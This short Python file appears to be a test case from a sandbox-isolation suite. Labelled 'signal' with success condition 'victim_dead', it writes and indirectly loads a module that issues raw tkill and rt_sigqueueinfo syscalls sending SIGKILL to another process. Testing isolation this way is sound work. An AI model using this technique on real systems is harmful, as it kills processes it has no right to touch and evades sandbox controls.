# class: signal
# technique: tkill and rt_sigqueueinfo of another process
# success: victim_dead
import sys, unittest
source = 'import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall(200, @@VPID@@, 9)\ninfo = ctypes.create_string_buffer(128)\nlibc.syscall(129, @@VPID@@, 9, info)\nlibc.syscall(297, @@VPID@@, @@VPID@@, 9, info)\n'
open('native_part.py', 'w').write(source)
sys.path.insert(0, '')
unittest.defaultTestLoader.loadTestsFromName('native_part')
